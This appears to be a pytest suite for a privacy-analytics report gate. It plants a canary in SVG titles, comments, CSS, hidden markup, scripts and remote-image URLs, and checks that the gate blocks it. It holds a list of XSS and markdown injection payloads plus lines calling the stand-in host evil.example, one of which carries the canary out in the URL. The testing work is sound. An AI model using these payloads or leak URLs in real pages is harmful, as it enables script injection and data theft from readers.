"""Attacks on pages: what a reader could find in one, or what it could do to a reader.

Each test is named after its row of the list of attacks. It plants the canary, sees it held back, then switches that
control off and sees the canary get out: so it is this control that holds it, and the test can fail.
"""

import base64
import json
import re
from html import escape

import nbformat
import pytest
from staged import (
    ABOUT,
    CANARY,
    SPEC,
    VALUES,
    handed_on,
    held_by,
    made_book,
    made_output,
    made_release,
    nothing,
    page,
    passes,
    pictured,
)

from privacy_analytics import figures
from privacy_analytics.exports import to_svg
from privacy_analytics.gate import fragments
from privacy_analytics.gate import page as pages
from privacy_analytics.report import render
from privacy_analytics.report.manifest import vouch
from privacy_analytics.report.render import render_html


def test_what_is_honest_passes(store):
    assert passes("report.html", page().encode(), store)
    assert passes("report.ipynb", handed_on(), store)


# plot specifications; SVG, comments, data- attributes, CSS, tooltips; XSS; third-party requests


def test_plot_specifications_embed_data():
    rows = made_release("features", {"chat": 9000.0, "mix_assist": 1240.0})
    drawn = figures.figure(rows)
    said = drawn.replace(escape(json.dumps(SPEC, sort_keys=True, separators=(",", ":"))), "")
    assert not re.search(r"datum|\$schema|vega|\"values\"", said)
    assert set(re.findall(r"[a-z]+_[a-z]+", said)) == set()  # nor a key as the data has it


IN_A_FIGURE = {
    "SVG title": ("</figure>", f"<title>{CANARY}</title></figure>"),
    "SVG description": ("</figcaption>", f"</figcaption><desc>{CANARY}</desc>"),
    "SVG metadata": ("</svg>", f"<metadata>{CANARY}</metadata></svg>"),
    "tooltip": ("<svg ", f'<svg title="{CANARY}" '),
    "label": ("aria-label=", f'aria-description="{CANARY}" aria-label='),
    "comment": ("</figure>", f"<!-- {CANARY} --></figure>"),
    "data- attribute": ("<svg ", f'<svg data-note="{CANARY}" '),
    "CSS": ("</figure>", f"<style>.a::after{{content:'{CANARY}'}}</style></figure>"),
    "custom property": ("<svg ", f'<svg style="--note:{CANARY}" '),
    "class": ('class="mark"', f'class="mark {CANARY}"'),
    "entities": ("Chat", "".join(f"&#{ord(letter)};" for letter in CANARY)),
    "specification": ("&quot;options&quot;:{}", f"&quot;options&quot;:{{&quot;{CANARY}&quot;:1}}"),
}
AROUND = {
    "comment": f"<!-- {CANARY} -->",
    "data- attribute": f'<p data-note="{CANARY}">Fine.</p>',
    "CSS": f"<style>.a::after{{content:'{CANARY}'}}</style>",
    "tooltip": f'<p title="{CANARY}">Fine.</p>',
    "words": f"<p>{CANARY}</p>",
    "hidden words": f"<p hidden>{CANARY}</p>",
    "noscript": f"<noscript>{CANARY}</noscript>",
    "template": f"<template>{CANARY}</template>",
    "after the end": f"</html>{CANARY}",
    "link": f'<a href="#{CANARY.replace(" ", "-")}">up</a>',
    "data URI": f'<img src="data:text/plain;base64,{base64.b64encode(CANARY.encode()).decode()}">',
    "remote image": f'<img src="https://evil.example/{CANARY}">',
    "script": f"<script>'{CANARY}'</script>",
    "handler": f"<p onclick=\"'{CANARY}'\">Fine.</p>",
    "meta": f'<meta name="author" content="{CANARY}">',
}


def _lenient(text, _):
    """Cuts out whatever calls itself a fragment."""
    pieces = re.split(r'<section class="pa" data-fragment="[^"]*">.*?</section>', text, flags=re.DOTALL)
    return fragments.Cut([(text.index(piece), piece) for piece in pieces], ['{"options":{}}'], [])


@pytest.mark.parametrize("place", IN_A_FIGURE)
def test_svg_title_comments_data_attributes_and_css_in_a_figure(place, store, monkeypatch):
    old, new = IN_A_FIGURE[place]
    spoiled = pictured().replace(old, new, 1)
    assert spoiled != pictured()
    held_by("fragments", "report.html", spoiled.encode(), store)
    monkeypatch.setattr(pages, "cut", _lenient)
    assert passes("report.html", spoiled.encode(), store)


@pytest.mark.parametrize("place", AROUND)
def test_comments_data_attributes_css_and_words_around_figures(place, store, monkeypatch):
    spoiled = page().replace("</body>", f"{AROUND[place]}</body>", 1).encode()
    held_by("prose", "report.html", spoiled, store)
    monkeypatch.setattr(pages, "_markup", nothing)
    assert not passes("report.html", spoiled, store)
    monkeypatch.setattr(pages, "_blocks", nothing)
    assert passes("report.html", spoiled, store)


@pytest.mark.parametrize(
    ("place", "rule"), [(place, "markup") for place in AROUND if place not in ("words", "after the end", "link")]
)
def test_markup_is_refused_even_where_its_words_are_vouched_for(place, rule, store, monkeypatch):
    spoiled = page().replace("</body>", f"{AROUND[place]}</body>", 1).encode()
    monkeypatch.setattr(pages, "_blocks", nothing)
    held_by(rule, "report.html", spoiled, store)
    monkeypatch.setattr(pages, "_markup", nothing)
    assert passes("report.html", spoiled, store)


PAYLOADS = [
    "<script>alert()</script>",
    "<img src=x onerror=alert()>",
    "<svg onload=alert()>",
    "[x](javascript:alert())",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "<a href='//evil.example'>x</a>",
    "<iframe src=//evil.example>",
    "</section><script>alert()</script>",
    "<style>@import '//evil.example/x.css'</style>",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
]


def test_xss_and_markdown(store):
    book = made_book("Fine.", made_output())
    book.cells += [nbformat.v4.new_markdown_cell(payload) for payload in PAYLOADS]
    made = render_html(book, **ABOUT)
    assert not re.search(r"<script|<img|<svg on|<iframe|<a href=\"(?!#|mailto:privacy@)", made)
    assert passes("report.html", made.encode(), store, vouch(book, VALUES, **ABOUT))


def test_xss_passes_nowhere_when_prose_is_not_escaped(store, monkeypatch):
    raw = render.mistune.create_markdown(escape=False)
    monkeypatch.setattr(render, "_MARKDOWN", raw)
    book = made_book(PAYLOADS[0], made_output())
    made = render_html(book, **ABOUT)
    assert PAYLOADS[0] in made
    held_by("markup", "report.html", made.encode(), store, vouch(book, VALUES, **ABOUT))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_in_labels_and_keys(payload):
    drawn = figures.table(made_release("x", {payload: 900.0}), title=payload.replace("\n", " "))
    assert not re.search(r"<script|<img|<svg on|<iframe|<a ", drawn)


def test_third_party_requests(store):
    for made in (pictured(), handed_on().decode(), to_svg(SPEC, store).decode()):
        assert set(re.findall(r"https?://[\w./]*", made)) <= {"http://www.w3.org/2000/svg"}
    assert not re.search(r"\b(?:src|srcset|data|poster|action|formaction)=|url\(|@import|(?<!http:)//\w", pictured())
